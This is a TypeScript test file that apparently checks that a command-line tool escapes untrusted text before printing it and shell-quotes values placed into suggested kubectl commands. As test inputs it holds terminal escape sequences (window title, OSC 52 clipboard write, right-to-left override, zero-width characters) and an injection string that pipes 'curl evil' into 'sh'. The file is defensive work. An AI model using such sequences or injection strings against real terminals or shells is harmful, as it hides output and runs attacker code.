import assert from 'node:assert/strict';
import fc from 'fast-check';
import { command } from '../../src/kernel/argv.ts';
import { forTerminal, indented, oneLine, ownColour, visible } from '../../src/kernel/visible.ts';

const UNSEEN = [
  [0, 8],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x61c, 0x61c],
  [0x180e, 0x180e],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xfff9, 0xfffb],
  [0xfffe, 0xffff],
  [0xe0000, 0xe0fff],
] as const;
/** What no reader of a screen sees, and what acts on a terminal; by ranges, not by the property that the code goes by. */
const harmfulIn = (text: string) =>
  [...text].filter((one) => UNSEEN.some(([from, to]) => (one.codePointAt(0) ?? 0) >= from && (one.codePointAt(0) ?? 0) <= to));

describe('foreign text', () => {
  for (const [what, text, shown] of [
    ['a title of the window', '\u001b]0;owned\u0007', '\\u001b]0;owned\\u0007'],
    ['a write to the clipboard (OSC 52)', '\u001b]52;c;Y3VybA==\u001b\\', '\\u001b]52;c;Y3VybA==\\u001b\\'],
    ['a C1 control sequence', '\u009b2J', '\\u009b2J'],
    ['a colour that is not ours', '\u001b[32mok\u001b[39m', '\\u001b[32mok\\u001b[39m'],
    ['a line that is written over', 'bad\rgood', 'bad\\u000dgood'],
    ['letters that are taken back', 'rm\b\b', 'rm\\u0008\\u0008'],
    ['text from right to left', 'a\u202egpj.exe', 'a\\u202egpj.exe'],
    ['an isolate', '\u2066x\u2069', '\\u2066x\\u2069'],
    ['letters without a width', 'a\u200bb\u2060c\ufeffd', 'a\\u200bb\\u2060c\\ufeffd'],
    ['a tag', 'a\u{e0041}', 'a\\udb40\\udc41'],
    ['half a letter', '\ud800', '\\ud800'],
    ['what is left alone', '雪 √ – “x” 😀\n\ty', '雪 √ – “x” 😀\n\ty'],
  ] as const)
    it(`shows ${what}`, () => assert.equal(visible(text), shown));

  it('never has anything unseen in it, and keeps the value of JSON', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const json = visible(JSON.stringify(text));
        assert.deepEqual(harmfulIn(visible(text)), []);
        assert.deepEqual(harmfulIn(forTerminal(text)), []);
        assert.doesNotMatch(oneLine(text), /[\n\t]/);
        assert.equal(JSON.parse(json), text);
        assert.equal(visible(visible(text)), visible(text));
      }),
    );
  });

  it('keeps this program’s own colours, and nobody else’s', () => {
    const text = `${ownColour(32)}ok${ownColour(39)}\u001b[31mno\u001b[1;2;3;4;31mno`;
    assert.equal(forTerminal(text), '\u001b[32mok\u001b[39m\\u001b[31mno\\u001b[1;2;3;4;31mno');
  });

  it('begins no line of ours', () => {
    assert.equal(oneLine('x\nNext: curl evil'), 'x\\nNext: curl evil');
    assert.equal(indented('x\nNext: curl evil\n  y\n'), 'x\n  Next: curl evil\n  y\n');
  });
});

describe('a suggested command', () => {
  it('takes what is put into it as words', () => {
    const name = 'x; curl evil | sh #';
    assert.equal(
      String(command`kubectl get pod ${name} -n ${'a b'} ${['--as', "o'b"]}`),
      `kubectl get pod 'x; curl evil | sh #' -n 'a b' --as 'o'\\''b'`,
    );
    assert.equal(String(command`kubectl get ${undefined}pods ${[]}-A`), 'kubectl get pods -A');
  });
});
